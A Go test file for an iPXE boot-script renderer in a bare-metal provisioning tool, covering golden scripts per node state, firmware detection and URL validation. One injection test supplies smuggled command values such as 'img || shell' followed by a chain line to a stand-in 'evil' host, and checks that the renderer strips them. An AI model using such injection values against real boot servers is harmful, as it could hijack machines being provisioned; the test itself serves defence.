package ipxe

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bootyard/bootyard/node"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

func testRenderer(t testing.TB) *Renderer {
	t.Helper()
	r, err := NewRenderer(Config{AdvertiseURL: "http://10.20.0.1:8080/"})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

var testMAC = node.MAC{0x52, 0x54, 0x00, 0x12, 0x34, 0x56}

func scriptFor(state node.State, p Platform) Script {
	return Script{Kind: KindFor(state), MAC: testMAC, Name: "worker-1", State: state,
		Role: node.RoleWorker, Image: "llmos-v0.3", Generation: 2, Platform: p}
}

func TestRender_EachStateGivesItsGoldenScript(t *testing.T) {
	r := testRenderer(t)
	withLoader, err := NewRenderer(Config{AdvertiseURL: "http://10.20.0.1:8080/", LocalBootLoader: LocalBootLoaderName})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		golden string
		script Script
		loader bool // rendered by a renderer that serves the UEFI local-boot loader
	}{
		{golden: "installed-efi-loader", script: scriptFor(node.StateInstalled, PlatformEFI), loader: true},
		{golden: "active-bios-loader", script: scriptFor(node.StateActive, PlatformBIOS), loader: true},
		{golden: "active-unknown-platform-loader", script: scriptFor(node.StateActive, PlatformUnknown), loader: true},
		{golden: "registered-efi", script: scriptFor(node.StateRegistered, PlatformEFI)},
		{golden: "registered-bios", script: scriptFor(node.StateRegistered, PlatformBIOS)},
		{golden: "provisioning-unknown-platform", script: scriptFor(node.StateProvisioning, PlatformUnknown)},
		{golden: "installed-efi", script: scriptFor(node.StateInstalled, PlatformEFI)},
		{golden: "active-bios", script: scriptFor(node.StateActive, PlatformBIOS)},
		{golden: "active-unknown-platform", script: scriptFor(node.StateActive, PlatformUnknown)},
		{golden: "deleted-efi", script: scriptFor(node.StateDeleted, PlatformEFI)},
		{golden: "wiping", script: scriptFor(node.StateWiping, PlatformEFI)},
		{golden: "deleting", script: scriptFor(node.StateDeleting, PlatformEFI)},
		{golden: "failed", script: func() Script {
			s := scriptFor(node.StateFailed, PlatformEFI)
			s.Reason = "disk /dev/sda not found"
			return s
		}()},
		{golden: "discovered", script: Script{Kind: KindWait, MAC: testMAC, Name: "node-525400123456", State: node.StateDiscovered}},
		{golden: "wipe-with-agent", script: func() Script {
			s := scriptFor(node.StateWiping, PlatformEFI)
			s.Install = InstallTarget{Kernel: "http://10.20.0.1:8080/agent/vmlinuz",
				Initrds: []string{"http://10.20.0.1:8080/agent/initramfs.gz"},
				Cmdline: "initrd=initramfs.gz console=ttyS0,115200 console=tty0 quiet bootyard.url=http://10.20.0.1:8080 bootyard.token=0123abcd bootyard.mac=52:54:00:12:34:56"}
			return s
		}()},
		{golden: "install-with-kernel", script: func() Script {
			s := scriptFor(node.StateRegistered, PlatformEFI)
			s.Install = InstallTarget{Kernel: "http://10.20.0.1:8080/images/llmos/vmlinuz",
				Initrds: []string{"http://10.20.0.1:8080/images/llmos/initrd", "http://10.20.0.1:8080/agent.cpio"},
				Cmdline: "console=ttyS0 bootyard.url=http://10.20.0.1:8080"}
			return s
		}()},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			var buf bytes.Buffer
			render := r
			if tt.loader {
				render = withLoader
			}
			if err := render.Render(&buf, tt.script); err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(buf.String(), "#!ipxe\n") {
				t.Fatalf("script does not start with #!ipxe:\n%s", buf.String())
			}
			golden(t, tt.golden+".ipxe", buf.Bytes())
		})
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (run with -update if intended)\ngot:\n%s\nwant:\n%s", name, got, want)
	}
}

func TestRender_MachineAndOperatorTextCannotInjectCommands(t *testing.T) {
	r := testRenderer(t)
	s := scriptFor(node.StateRegistered, PlatformEFI)
	s.Image = "img || shell\nchain http://evil/${x}"
	s.Reason = "boom && shell"
	for _, k := range []Kind{KindInstall, KindWait} {
		s.Kind = k
		var buf bytes.Buffer
		if err := r.Render(&buf, s); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		for _, bad := range []string{"||", "&& shell", "\nchain http://evil", "${x}"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s script contains %q:\n%s", k, bad, out)
			}
		}
	}
}

func TestKindFor_EveryStateHasAScriptAndOnlyInstallStatesInstall(t *testing.T) {
	want := map[node.State]Kind{
		node.StateDiscovered: KindWait, node.StateRegistered: KindInstall, node.StateProvisioning: KindInstall,
		node.StateInstalled: KindLocalBoot, node.StateJoining: KindLocalBoot, node.StateJoined: KindLocalBoot,
		node.StateActive: KindLocalBoot, node.StateDeleting: KindWait,
		node.StateWiping: KindWipe, node.StateDeleted: KindLocalBoot, node.StateFailed: KindWait,
	}
	for _, s := range node.States {
		if got := KindFor(s); got != want[s] {
			t.Errorf("KindFor(%s) = %s, want %s", s, got, want[s])
		}
		if KindFor(s) == KindInstall && !s.MayReceiveJoinData() {
			t.Errorf("%s gets the installer but may not receive join data", s)
		}
	}
}

func TestPlatformOf_RecordedFirmwareDecidesAndUnseenIsUnknown(t *testing.T) {
	seen := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	tests := []struct {
		name string
		boot node.BootInfo
		want Platform
	}{
		{"never seen", node.BootInfo{}, PlatformUnknown},
		{"uefi", node.BootInfo{Firmware: "uefi", Arch: 7, FirstSeen: seen}, PlatformEFI},
		{"uefi http", node.BootInfo{Firmware: "uefi-http", Arch: 16, FirstSeen: seen}, PlatformEFI},
		{"bios", node.BootInfo{Firmware: "bios", FirstSeen: seen}, PlatformBIOS},
		{"ipxe on efi by arch", node.BootInfo{Firmware: "ipxe", Arch: 7, FirstSeen: seen}, PlatformEFI},
		{"ipxe on bios by arch", node.BootInfo{Firmware: "ipxe", Arch: 0, FirstSeen: seen}, PlatformBIOS},
	}
	for _, tt := range tests {
		if got := PlatformOf(tt.boot); got != tt.want {
			t.Errorf("%s: PlatformOf = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestArchCode_MatchesDHCPOption93(t *testing.T) {
	tests := []struct {
		p    Platform
		arch string
		code uint16
		ok   bool
	}{
		{PlatformBIOS, "x86_64", 0, true},
		{PlatformBIOS, "i386", 0, true},
		{PlatformEFI, "x86_64", 7, true},
		{PlatformEFI, "arm64", 11, true},
		{PlatformEFI, "riscv64", 0, false},
		{PlatformUnknown, "x86_64", 0, false},
	}
	for _, tt := range tests {
		code, ok := ArchCode(tt.p, tt.arch)
		if code != tt.code || ok != tt.ok {
			t.Errorf("ArchCode(%q, %q) = %d, %v; want %d, %v", tt.p, tt.arch, code, ok, tt.code, tt.ok)
		}
	}
}

func TestNewRenderer_RefusesAdvertiseURLsThatBreakScripts(t *testing.T) {
	for _, u := range []string{"", "10.0.0.1:8080", "ftp://x", "http://x/?a=b", "http://x/ y", "http://x/${evil}"} {
		if _, err := NewRenderer(Config{AdvertiseURL: u}); err == nil {
			t.Errorf("NewRenderer(%q) accepted it", u)
		}
	}
}

func TestBootURL_LetsIPXEFillInMACAndFirmware(t *testing.T) {
	got := testRenderer(t).BootURL()
	want := "http://10.20.0.1:8080/boot.ipxe?mac=${mac:hexhyp}&platform=${platform}&arch=${buildarch}"
	if got != want {
		t.Errorf("BootURL = %q, want %q", got, want)
	}
}

func BenchmarkRender(b *testing.B) {
	r := testRenderer(b)
	s := scriptFor(node.StateActive, PlatformEFI)
	var buf bytes.Buffer
	b.ReportAllocs()
	for b.Loop() {
		buf.Reset()
		if err := r.Render(&buf, s); err != nil {
			b.Fatal(err)
		}
	}
}
